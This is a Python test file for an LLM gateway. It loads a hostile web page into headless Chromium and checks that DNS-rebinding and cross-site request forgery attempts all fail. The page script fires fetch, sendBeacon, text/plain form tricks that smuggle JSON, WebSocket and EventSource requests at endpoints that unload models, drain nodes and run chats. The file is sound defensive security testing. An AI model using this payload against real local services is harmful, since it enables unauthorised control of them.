"""A hostile web page in a real browser on the gateway's machine: it gives no orders, reads nothing
that it should not, and has no model compute anything."""

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.support.fleet import MODEL, TestFleet, chat_body, scripted_fleet
from tests.support.nats import NatsServer
from tests.support.scripted import Script
from tests.support.waiting import until

pytestmark = pytest.mark.clients

PAGE_TEXT = """<!doctype html><body><script>
const chat = JSON.stringify(%(chat)s), order = JSON.stringify({model: "%(model)s"});
const tries = [];
const say = (what, how) => tries.push([what, how]);
async function request(what, url, options) {
  try {
    const answer = await fetch(url, options);
    say(what, answer.type === "opaque" ? "opaque" : String(answer.status));
  } catch (error) { say(what, "failed"); }
}
const event = (what, thing, name, how) => new Promise(done => {
  thing.addEventListener(name, () => { say(what, how); done(); });
  setTimeout(done, 3000);
});
async function all(name, base) {
  const json = {"Content-Type": "application/json"}, post = {method: "POST"};
  for (const path of ["/fleet", "/requests/x"]) {
    await request(name + " read", base + path);
    await request(name + " read without CORS", base + path, {mode: "no-cors"});
    await request(name + " with headers", base + path, {headers: {"X-Custom": "1"}});
  }
  for (const [path, body] of [["/models/unload", order], ["/v1/chat/completions", chat],
                              ["/chat/completions", chat], ["/nodes/n1/drain", "{}"]]) {
    const what = name + " " + path;
    await request(what + " json", base + path, {...post, headers: json, body});
    await request(what + " text", base + path, {...post, body});
    await request(what + " no-cors", base + path, {...post, mode: "no-cors", body});
    await request(what + " blob", base + path, {...post, mode: "no-cors", body: new Blob([body])});
    await request(what + " keepalive", base + path, {...post, keepalive: true, mode: "no-cors",
                                                     body: new Blob([body])});
    await request(what + " form", base + path, {...post, mode: "no-cors",
                                                body: new URLSearchParams({a: body})});
    navigator.sendBeacon(base + path, body);
    navigator.sendBeacon(base + path, new Blob([body]));
    const frame = document.createElement("iframe");
    frame.name = what;
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: base + path, enctype: "text/plain", target: what});
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ', "x": "';
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    form.submit();
  }
  const image = new Image();
  image.src = base + "/fleet";
  await event(name + " image", image, "error", "failed");
  const socket = new WebSocket(base.replace("http", "ws") + "/v1/chat/completions");
  await event(name + " socket", socket, "error", "failed");
  const source = new EventSource(base + "/fleet/events");
  await event(name + " events", source, "error", "failed");
  source.close();
}
(async () => {
  await all("rebound", location.origin);
  await all("cross-site", "http://127.0.0.1:%(port)d");
  await all("other name", "http://localhost:%(port)d");
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/report", {method: "POST", body: JSON.stringify(tries)});
})();
</script>"""


class Rebinder:
    """Serves the page, and passes everything else on: as a server whose name points elsewhere from
    then on, so that the gateway is the page's own origin to the browser."""

    def __init__(self, gateway_port: int, page: str) -> None:
        self._port = gateway_port
        self._page = page.encode()
        self.report: list[list[str]] = []
        self.passed_on = 0
        self._tasks: set[asyncio.Task[None]] = set()

    def begin(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._tasks.add(asyncio.create_task(self._serve(reader, writer)))

    async def end(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await self._answer(reader, writer)
        finally:
            writer.transport.abort()

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        path = head.split(b" ", 2)[1]
        if path not in (b"/report", b"/page"):
            self.passed_on += 1
            await self._pass_on(head, reader, writer)
            return
        if path == b"/report":
            length = int(head.lower().partition(b"content-length: ")[2].split(b"\r", 1)[0])
            self.report = json.loads(await reader.readexactly(length))
        kind = b"Content-Type: text/html\r\nContent-Length: %d\r\n" % len(self._page)
        writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n" + kind + b"\r\n" + self._page)
        await writer.drain()
        await reader.read()

    async def _pass_on(
        self, head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        theirs, ours = await asyncio.open_connection("127.0.0.1", self._port)

        async def pump(source: asyncio.StreamReader, target: asyncio.StreamWriter) -> None:
            while data := await source.read(65536):
                target.write(data)
                await target.drain()

        sending = asyncio.create_task(pump(reader, ours))
        try:
            ours.write(head.replace(b"keep-alive", b"close"))
            await pump(theirs, writer)
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)
            ours.transport.abort()


@pytest.fixture
def chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if not found:
        pytest.skip("no Chromium here")
    return found


@contextlib.asynccontextmanager
async def browsing(chromium: str, url: str, profile: Path) -> AsyncIterator[None]:
    process = await asyncio.create_subprocess_exec(
        chromium,
        *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *(f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.example 127.0.0.1"),
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.kill()
        await process.wait()


@contextlib.asynccontextmanager
async def hostile(fleet: TestFleet) -> AsyncIterator[tuple[Rebinder, str]]:
    port = int(fleet.url.rpartition(":")[2])
    chat = json.dumps(chat_body("Hi", max_tokens=5))
    rebinder = Rebinder(port, PAGE_TEXT % {"chat": chat, "model": MODEL, "port": port})
    server = await asyncio.start_server(rebinder.begin, "127.0.0.1", 0)
    try:
        yield rebinder, f"http://evil.example:{server.sockets[0].getsockname()[1]}/page"
    finally:
        server.close()
        await rebinder.end()


async def test_a_hostile_page_achieves_nothing(
    nats: NatsServer, chromium: str, tmp_path: Path
) -> None:
    script = Script(lambda add: ["x"] * 5)
    async with scripted_fleet(nats, script) as fleet, hostile(fleet) as (rebinder, url):
        (engine,) = script.engines
        async with browsing(chromium, url, tmp_path):
            await until(lambda: rebinder.report, seconds=90)
        assert len(rebinder.report) > 90
        assert rebinder.passed_on > 30, "it has tried as its own origin as well"
        for what, how in rebinder.report:
            assert how in ("400", "403", "405", "415", "opaque", "failed"), (what, how)
        rebound = [how for what, how in rebinder.report if what.startswith("rebound")]
        assert rebound.count("403") > 20
        assert engine.steps_of.total() == 0, "no model has computed anything"
        assert fleet.gateway.fleet.models() == [MODEL], "it is still loaded"
        assert not (await fleet.client.get("/fleet")).json()["nodes"][0]["is_draining"]
        assert (await fleet.chat()).status_code == 200
